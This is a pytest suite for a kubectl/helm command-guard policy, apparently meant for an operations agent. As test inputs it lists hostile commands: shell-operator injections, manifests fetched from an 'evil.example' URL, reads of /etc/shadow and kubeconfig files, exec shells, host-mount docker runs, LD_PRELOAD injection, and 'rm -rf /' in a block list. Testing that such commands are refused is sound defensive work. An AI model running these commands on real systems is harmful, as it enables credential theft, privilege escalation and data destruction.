"""The pure command policy: tokens, executables, patterns, escapes, namespaces and approval rules."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from aofd import errors
from aofd.resources.kinds import context
from aofd.specs import policy

EXECUTABLES = {"kubectl": Path("/opt/bin/kubectl"), "helm": Path("/opt/bin/helm")}


def problems_of(name: str, **spec: Any) -> list[str]:
    """The messages of the problems compiling a Context with `spec` finds."""
    model = context.Context.model_validate({"metadata": {"name": name}, "spec": spec})
    return [p.message for p in policy.compile_context(model, tools=policy.known_tools(EXECUTABLES))[1]]


def ctx(name: str, *, executables: dict[str, Path] = EXECUTABLES, **spec: Any) -> policy.GuardPolicy:
    """A Context's compiled policy (its patterns read with `executables` pinned); it must compile."""
    model = context.Context.model_validate({"metadata": {"name": name}, "spec": spec})
    compiled, problems = policy.compile_context(model, tools=policy.known_tools(executables))
    assert () == problems
    return compiled


def decide(command: str | list[str], pol: policy.GuardPolicy) -> policy.Verdict:
    return policy.evaluate(policy.tokenize(command), policy=pol, executables=EXECUTABLES)


OPEN = policy.GuardPolicy(context="open")
READONLY = ctx(
    "readonly-context",
    security={
        "allowed_commands": ["kubectl get", "kubectl describe", "kubectl logs"],
        "blocked_commands": ["kubectl delete", "kubectl apply", "kubectl scale"],
    },
    env={"KUBECTL_READONLY": "true"},
)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods; kubectl delete ns prod",
        "kubectl get pods ; kubectl delete ns prod",
        "kubectl get pods && kubectl delete ns prod",
        "kubectl get pods || kubectl delete ns prod",
        "kubectl get pods | sh",
        "kubectl get pods > /etc/passwd",
        "kubectl get pods < /dev/zero",
        "kubectl get pods & kubectl delete ns prod",
        "kubectl get pods\nkubectl delete ns prod",
        "kubectl get pods\rkubectl delete ns prod",
        "kubectl get $(kubectl delete ns prod)",
        "kubectl get `id`",
        "echo ok; kubectl delete ns prod",
    ],
)
def test_shell_operators_refused_in_strings(command: str) -> None:
    """Separators, pipes, redirections, substitutions and newlines are refused before anything runs."""
    with pytest.raises(errors.PolicyDenied, match="shell operators not allowed"):
        policy.tokenize(command)


@pytest.mark.parametrize(
    "argv",
    [
        ["kubectl", "get", "pods;", "kubectl", "delete", "ns", "prod"],
        ["kubectl", "get", "pods", "&&", "id"],
        ["kubectl", "get", "pods", "|"],
        ["kubectl", "get", "pods\nid"],
        ["kubectl", "get", "$(id)"],
        ["kubectl", "get", "a`id`"],
    ],
)
def test_shell_operators_refused_in_argv(argv: list[str]) -> None:
    """argv lists get the same checks, including operators glued to a word."""
    with pytest.raises(errors.PolicyDenied, match="shell operators not allowed"):
        policy.tokenize(argv)


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["kubectl", "get", "pods\x00"], "control character U\\+0000"),
        (["kubectl", "get", "pods\x7f"], "control character U\\+007F"),
        (["kubectl", "delete", "ns", "prod\u202e"], "bidi"),
        (["kubectl", "delete", "ns", "pr\u200bod"], "zero-width"),
        (["kubectl", "get", "\ufeffpods"], "zero-width"),
        (["kubectl", "get", "x" * 4097], "longer than 4096 bytes"),
        ([], "empty command"),
    ],
)
def test_bad_tokens_refused(argv: list[str], message: str) -> None:
    """Control, bidi and zero-width characters, oversized tokens and empty commands are refused."""
    with pytest.raises(errors.PolicyDenied, match=message):
        policy.tokenize(argv)


def test_string_is_split_once_and_that_list_runs() -> None:
    """A string is split by shlex exactly once; quotes become part of tokens, not a shell."""
    assert policy.tokenize("kubectl get pods -l 'app in (a,b)'") == (
        "kubectl",
        "get",
        "pods",
        "-l",
        "app in (a,b)",
    )
    with pytest.raises(errors.PolicyDenied, match="cannot parse"):
        policy.tokenize("kubectl get 'pods")


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/kubectl get pods",
        "/usr/bin/../bin/kubectl get pods",
        "./kubectl get pods",
        "../bin/kubectl get pods",
    ],
)
def test_paths_as_argv0_refused(command: str) -> None:
    """argv[0] containing a slash is refused, whatever it points at."""
    verdict = decide(command, OPEN)
    assert (verdict.allowed, verdict.rule) == (False, "executable")
    assert "bare command name" in verdict.reason


def test_unknown_names_refused_and_pinned_path_used() -> None:
    """`KUBECTL` is not `kubectl`; an allowed command runs the pinned path."""
    assert not decide("KUBECTL get pods", OPEN).allowed
    assert not decide("oc get pods", OPEN).allowed
    assert decide("kubectl get pods", OPEN).executable == Path("/opt/bin/kubectl")


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'kubectl delete ns prod'",
        "bash -c 'kubectl get pods'",
        "env KUBECONFIG=/tmp/x kubectl get pods",
        "xargs kubectl delete ns",
        "timeout 5 kubectl get pods",
        "nohup kubectl get pods",
        "nice kubectl get pods",
        "sudo kubectl get pods",
        "find . -exec kubectl delete ns prod ;",
        "python3 -c 'import os'",
        "python3.11 -c 'import os'",
        "perl -e 1",
        "busybox sh",
        "ssh host kubectl get pods",
    ],
)
def test_wrappers_and_interpreters_refused(command: str) -> None:
    """Programs that run other programs are refused as argv[0]."""
    try:
        argv = policy.tokenize(command)
    except errors.PolicyDenied:
        return  # the find example also trips the operator check
    verdict = policy.evaluate(argv, policy=OPEN, executables={**EXECUTABLES, "sh": Path("/bin/sh")})
    assert not verdict.allowed
    assert verdict.rule in {"wrapper", "executable"}


def test_flag_first_ordering_finds_the_verb() -> None:
    """`kubectl -n prod delete pod x` with only `get` allowed is denied: the verb is `delete`."""
    pol = ctx("c", security={"allowed_commands": ["kubectl get"]})
    verdict = decide("kubectl -n prod delete pod x", pol)
    assert (verdict.allowed, verdict.rule) == (False, "allowed_commands")
    assert decide("kubectl -n prod get pod x", pol).allowed


def test_readonly_context_allows_get_describe_logs_only() -> None:
    """The seed's readonly-context: get/describe/logs run; delete/apply/scale/exec do not."""
    for command in [
        "kubectl get pods",
        "kubectl describe pod x",
        "kubectl logs x -c app",
        "kubectl -n a get po",
    ]:
        assert decide(command, READONLY).allowed, command
    for command in ["kubectl delete pod x", "kubectl apply -f x.yaml", "kubectl scale deploy x --replicas=0"]:
        verdict = decide(command, READONLY)
        assert not verdict.allowed, command
        assert (verdict.rule or "").startswith("blocked:"), command
    for command in ["kubectl exec x -- sh", "kubectl edit deploy x", "kubectl rollout restart deploy/x"]:
        assert not decide(command, READONLY).allowed, command


def test_blocked_wins_over_allowed() -> None:
    """A command matching both lists is blocked."""
    pol = ctx("c", security={"allowed_commands": ["kubectl"], "blocked_commands": ["kubectl delete"]})
    assert decide("kubectl get pods", pol).allowed
    assert not decide("kubectl delete pod x", pol).allowed


def test_identity_flags_denied_by_policy() -> None:
    """Row 22: identity and target flags are refused even where everything is allowed."""
    for command in [
        "kubectl --kubeconfig=/tmp/evil get pods",
        "kubectl --context other get pods",
        "kubectl --as system:admin get pods",
        "kubectl -s https://x get pods",
        "kubectl get pods --token abc",
    ]:
        verdict = decide(command, OPEN)
        assert (verdict.allowed, verdict.rule) == (False, "identity-flag"), command


def test_plugins_denied() -> None:
    """Row 21: an unknown verb is refused before exec (it would run a `kubectl-<verb>` plugin)."""
    verdict = decide("kubectl foo bar", OPEN)
    assert (verdict.allowed, verdict.rule) == (False, "unknown-verb")
    assert not decide("helm diff upgrade x", OPEN).allowed


ESCAPES = [
    "kubectl apply -f https://evil.example/x.yaml",
    "kubectl apply -f -",
    "kubectl apply -k dir",
    "kubectl get --raw /api/v1/secrets",
    "kubectl exec pod -- sh",
    "kubectl cp pod:/etc/shadow x",
    "kubectl port-forward pod/x 8080",
    "kubectl proxy",
    "kubectl debug node/x --image=busybox",
    "kubectl edit deploy x",
    "kubectl config view --raw",
    "kubectl auth can-i '*' '*'",
    "kubectl create token admin",
    "kubectl create secret generic x --from-file=/etc/shadow",
    "kubectl apply -f /etc/aofd/other-context.yaml",
]


@pytest.mark.parametrize("command", ESCAPES)
def test_escapes_denied_unless_named(command: str) -> None:
    """Row 24: escapes are denied with no list, and with a tool-wide `kubectl` allow rule."""
    assert not decide(command, OPEN).allowed
    assert not decide(command, ctx("c", security={"allowed_commands": ["kubectl"]})).allowed


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("kubectl exec", "kubectl exec pod -- ls"),
        ("kubectl apply -k", "kubectl apply -k dir"),
        ("kubectl apply -f -", "kubectl apply -f -"),
        ("kubectl get --raw", "kubectl get --raw /healthz"),
        ("kubectl port-forward", "kubectl port-forward pod/x 8080"),
        ("kubectl create token", "kubectl create token reader"),
        (
            "kubectl create secret --from-file=/srv/tls.crt",
            "kubectl create secret generic x --from-file=/srv/tls.crt",
        ),
    ],
)
def test_escapes_allowed_when_named(rule: str, command: str) -> None:
    """An allowed pattern that names the escape lets it through."""
    assert decide(command, ctx("c", security={"allowed_commands": [rule]})).allowed


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("kubectl apply -f", "kubectl apply -f -"),
        ("kubectl apply -f", "kubectl apply -f https://evil.example/x.yaml"),
        ("kubectl apply -f", "kubectl apply -f /etc/aofd/secrets.yaml"),
        ("kubectl create configmap --from-file", "kubectl create configmap x --from-file=/etc/shadow"),
        (
            "kubectl create configmap --from-file",
            "kubectl create configmap x --from-file=k=../../root/.kube/config",
        ),
        ("kubectl get -o", "kubectl get pods -o jsonpath-file=/etc/shadow"),
        (
            "kubectl create secret --from-file=/srv/tls.crt",
            "kubectl create secret generic x --from-file=/etc/shadow",
        ),
    ],
)
def test_a_flag_alone_does_not_unlock_its_dangerous_values(rule: str, command: str) -> None:
    """Reading stdin, a URL or a host file is allowed only by a rule that gives that very value."""
    verdict = decide(command, ctx("c", security={"allowed_commands": [rule]}))
    assert not verdict.allowed
    assert (verdict.rule or "").startswith(("escape:", "allowed_commands"))


def test_example2_same_agent_different_approval_rules() -> None:
    """Seed Example 2: prod-strict needs approval for `kubectl delete`, staging-permissive does not."""
    strict = ctx(
        "prod-strict",
        kubeconfig="/etc/k/prod",
        approval={
            "required": True,
            "allowed_users": ["U015SRE_LEAD"],
            "require_for": ["kubectl delete", "kubectl scale", "kubectl apply"],
        },
    )
    permissive = ctx(
        "staging-permissive",
        kubeconfig="/etc/k/staging",
        approval={"required": False},
        env={"ALLOW_DELETE": "true"},
    )
    verdict = decide("kubectl -n prod delete pod x", strict)
    assert (verdict.allowed, verdict.needs_approval, verdict.approval_rule) == (True, True, "kubectl delete")
    assert not decide("kubectl get pods", strict).needs_approval
    verdict = decide("kubectl -n prod delete pod x", permissive)
    assert (verdict.allowed, verdict.needs_approval) == (True, False)


def test_required_with_empty_require_for_means_every_command() -> None:
    """Upstream semantics: `required: true` and no `require_for` gates every command."""
    pol = ctx("c", approval={"required": True, "allowed_users": ["U1"]})
    verdict = decide("kubectl get pods", pol)
    assert (verdict.needs_approval, verdict.approval_rule) == (True, "*")


def test_require_for_flag_patterns() -> None:
    """`kubectl scale --replicas=0` matches `--replicas 0` and `--replicas=00`, not `--replicas=3`."""
    pol = ctx("c", approval={"required": True, "require_for": ["kubectl scale --replicas=0"]})
    assert decide("kubectl scale deploy x --replicas 0", pol).needs_approval
    assert decide("kubectl scale --replicas=00 deploy x", pol).needs_approval
    assert not decide("kubectl scale deploy x --replicas=3", pol).needs_approval


def test_legacy_patterns_keep_upstream_semantics_where_they_only_tighten() -> None:
    """Regex/substring patterns work in require_for and blocked_commands, never in allowed_commands."""
    pol = ctx(
        "c",
        approval={"required": True, "require_for": ["delete", "kubectl (scale|drain)"]},
        security={"blocked_commands": ["--force"]},
    )
    assert decide("kubectl delete pod x", pol).needs_approval
    assert decide("kubectl drain node1", pol).needs_approval
    assert not decide("kubectl get pods", pol).needs_approval
    assert not decide("kubectl delete pod x --force", pol).allowed
    problems = problems_of("c", security={"allowed_commands": ["kubectl (get|delete)"]})
    assert 1 == len(problems)
    assert "not a command shape" in problems[0]


def test_compiling_reports_bidi_and_non_shapes() -> None:
    """Bidi/zero-width characters are invalid anywhere; regexes are invalid in allowed_commands."""
    allowed = ["kubectl get", "kubectl delete\u202e", "kubectl\u200b get", "kubectl (get|x)", "kubectl foo"]
    problems = problems_of("c", security={"allowed_commands": allowed})
    assert len(problems) == 4
    assert "bidi" in problems[0]
    assert "\\u202e" in problems[0]
    assert "zero-width" in problems[1]
    assert "not a command shape" in problems[2]
    assert "unknown kubectl verb" in problems[3]
    assert [] == problems_of("c", security={"blocked_commands": ["kubectl (get|x)", "rm -rf /"]})


def test_an_invalid_pattern_keeps_the_context_from_compiling() -> None:
    """A Context whose patterns are invalid never yields a policy to run with: compiling reports it."""
    problems = problems_of("c", security={"blocked_commands": ["kubectl delete\u202e"]})
    assert ["bidi" in p for p in problems] == [True]


def test_allowed_namespaces() -> None:
    """Namespaces outside the list, `-A`, and deleting a namespace outside it are denied."""
    pol = ctx("c", namespace="staging", security={"allowed_namespaces": ["staging", "dev"]})
    assert decide("kubectl get pods", pol).allowed
    assert decide("kubectl -n dev get pods", pol).allowed
    assert not decide("kubectl -n prod get pods", pol).allowed
    assert not decide("kubectl get pods -A", pol).allowed
    assert not decide("kubectl delete ns prod", pol).allowed
    assert not decide("kubectl delete namespace/prod", pol).allowed
    assert not decide("helm -n prod upgrade x chart", pol).allowed


def test_namespace_pattern_and_strict_resources() -> None:
    """`-n ns` in a pattern restricts it; allow rules with a resource cover only that resource."""
    pol = ctx("c", security={"allowed_commands": ["kubectl -n dev delete", "kubectl get pods"]})
    assert decide("kubectl delete pod x -n dev", pol).allowed
    assert not decide("kubectl delete pod x -n prod", pol).allowed
    assert decide("kubectl get po", pol).allowed
    assert not decide("kubectl get secrets", pol).allowed
    assert not decide("kubectl get pods,secrets", pol).allowed
    assert not decide("kubectl get secrets pods", pol).allowed


def test_context_namespace_injected_when_absent() -> None:
    """The Context's namespace is added as `--namespace` unless the command names one or uses -A."""
    pol = ctx("c", namespace="payments")
    assert decide("kubectl get pods", pol).exec_argv == ("kubectl", "--namespace", "payments", "get", "pods")
    assert decide("kubectl -n x get pods", pol).exec_argv == ("kubectl", "-n", "x", "get", "pods")
    assert decide("kubectl get pods -A", pol).exec_argv == ("kubectl", "get", "pods", "-A")
    # Without a Context namespace the checked one (`default`) runs, not the kubeconfig's.
    assert decide("kubectl get pods", OPEN).exec_argv == ("kubectl", "--namespace", "default", "get", "pods")


def test_render_argv_escapes_non_ascii() -> None:
    """Approvers see `\\u202e`, not a reordered string."""
    assert (
        policy.render_argv(["kubectl", "delete", "ns", "prod\u202e"])
        == '["kubectl", "delete", "ns", "prod\\u202e"]'
    )


def test_compile_context_reads_the_model() -> None:
    """The guard's view copies every field it needs, with the smaller concurrency cap."""
    pol = ctx(
        "prod-context",
        kubeconfig="/etc/k/prod",
        namespace="default",
        cluster="prod-us-east-1",
        env={"ENVIRONMENT": "production"},
        working_dir="/srv/ops",
        approval={"required": True, "allowed_users": ["U1"], "timeout_seconds": 60, "min_approvers": 2},
        limits={"max_requests_per_hour": 100, "max_concurrent": 4, "max_concurrent_requests": 2},
        audit={"enabled": True, "log_responses": True},
        security={"allowed_namespaces": ["default"]},
    )
    assert pol.context == "prod-context"
    assert (pol.kubeconfig, pol.namespace, pol.cluster, pol.working_dir) == (
        "/etc/k/prod",
        "default",
        "prod-us-east-1",
        "/srv/ops",
    )
    assert pol.env_map == {"ENVIRONMENT": "production"}
    assert pol.approval == policy.ApprovalPolicy(
        required=True, allowed_users=("U1",), timeout_seconds=60, min_approvers=2
    )
    assert (pol.limits.max_requests_per_hour, pol.limits.max_concurrent) == (100, 2)
    assert pol.log_responses
    assert pol.allowed_namespaces == ("default",)


def test_allowed_namespaces_enforced_without_a_context_namespace() -> None:
    """With `allowed_namespaces` but no Context namespace, the checked namespace (`default`) is the
    one that runs: without `--namespace` kubectl would use the kubeconfig context's namespace."""
    pol = ctx("team", security={"allowed_namespaces": ["default", "team-a"]})
    verdict = decide("kubectl get secrets", pol)
    assert verdict.allowed
    assert verdict.exec_argv == ("kubectl", "--namespace", "default", "get", "secrets")
    assert decide("kubectl -n team-a get pods", pol).exec_argv == ("kubectl", "-n", "team-a", "get", "pods")
    assert not decide("kubectl get secrets --all_namespaces", pol).allowed


def test_tools_without_a_semantic_policy_run_only_when_allowed_by_name() -> None:
    """A pinned git or docker is an interpreter in disguise: it runs only where allowed_commands names it."""
    executables = {**EXECUTABLES, "docker": Path("/opt/bin/docker"), "git": Path("/opt/bin/git")}
    listed = ctx("ops", executables=executables, security={"allowed_commands": ["docker ps", "kubectl get"]})

    def verdict(command: str, pol: policy.GuardPolicy) -> policy.Verdict:
        return policy.evaluate(policy.tokenize(command), policy=pol, executables=executables)

    assert not verdict("docker run -v /:/host alpine", OPEN).allowed
    assert not verdict("git -c alias.x=!sh x", OPEN).allowed
    assert "names it" in verdict("git status", OPEN).reason
    assert verdict("kubectl get pods", OPEN).allowed
    assert verdict("docker ps", listed).allowed
    assert not verdict("docker run alpine", listed).allowed


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("helm upgrade web chart -f /etc/shadow", "escape:--values=host-path"),
        ("helm upgrade web chart --values=../../etc/passwd", "escape:--values=host-path"),
        ("helm upgrade web chart -f https://evil.example/v.yaml", "escape:--values=url"),
        ("helm install web chart --set-file cert=/etc/ssl/private/key.pem", "escape:--set-file=host-path"),
        ("helm install web chart --set-file a=ok.txt,b=~/.kube/config", "escape:--set-file=host-path"),
        ("helm pull chart --ca-file /etc/aofd/ca.pem", "escape:--ca-file=host-path"),
        ("helm upgrade web chart --post-renderer ./render.sh", "escape:--post-renderer"),
    ],
)
def test_helm_host_file_reads_are_escapes(command: str, rule: str) -> None:
    """helm flags that read a host file (or fetch values from a URL) are denied unless a rule names them;
    files inside the working directory are fine.
    """
    verdict = decide(command, OPEN)
    assert (False, rule) == (verdict.allowed, verdict.rule)
    assert decide("helm upgrade web chart -f values.yaml --set-file cert=certs/tls.pem", OPEN).allowed
    flag, _, about_value = rule.removeprefix("escape:").partition("=")
    verb = command.split()[1]
    bare = decide(command, ctx("c", security={"allowed_commands": [f"helm {verb} {flag}"]}))
    assert bare.allowed is not bool(about_value)  # a file or URL escape needs the value in the rule
    value = next(v for n, v in policy.parse_command(policy.tokenize(command)).flags if n == flag)
    exact = f"helm {verb} {flag}={value}" if about_value else f"helm {verb} {flag}"
    assert decide(command, ctx("c", security={"allowed_commands": [exact]})).allowed


def test_context_env_may_not_override_or_inject() -> None:
    """A Context env setting PATH, KUBE_EDITOR, LD_PRELOAD or KUBECTL_EXTERNAL_DIFF is a problem, by name.

    The seed's own KUBECTL_READONLY is not: kubectl ignores it.
    """
    problems = policy.env_problems(
        {
            "PATH": "/tmp",
            "KUBE_EDITOR": "x",
            "LD_PRELOAD": "x",
            "KUBECTL_EXTERNAL_DIFF": "x",
            "OK_VAR": "1",
            "a-b": "1",
        }
    )
    assert ["PATH", "KUBE_EDITOR", "LD_PRELOAD", "KUBECTL_EXTERNAL_DIFF", "a-b"] == [n for n, _ in problems]
    assert policy.env_problems({"ENVIRONMENT": "production", "HTTPS_PROXY": "http://proxy:3128"}) == []
    assert policy.env_problems({"KUBECTL_READONLY": "true"}) == []


def test_a_context_env_problem_points_at_the_variable() -> None:
    """Compiling a Context reports a forbidden env variable at `spec.env.<NAME>`."""
    model = context.Context.model_validate(
        {"metadata": {"name": "c"}, "spec": {"env": {"LD_PRELOAD": "/x.so"}}}
    )
    _policy, problems = policy.compile_context(model, tools=policy.known_tools(EXECUTABLES))
    assert [("spec", "env", "LD_PRELOAD")] == [p.loc for p in problems]


def test_a_shell_operator_in_an_allow_rule_is_named() -> None:
    """`kubectl get ;` in allowed_commands is refused as a shell operator, not as a regular expression."""
    problems = problems_of("c", security={"allowed_commands": ["kubectl get ;"]})
    assert 1 == len(problems)
    assert "shell operator ';' in a pattern" in problems[0]
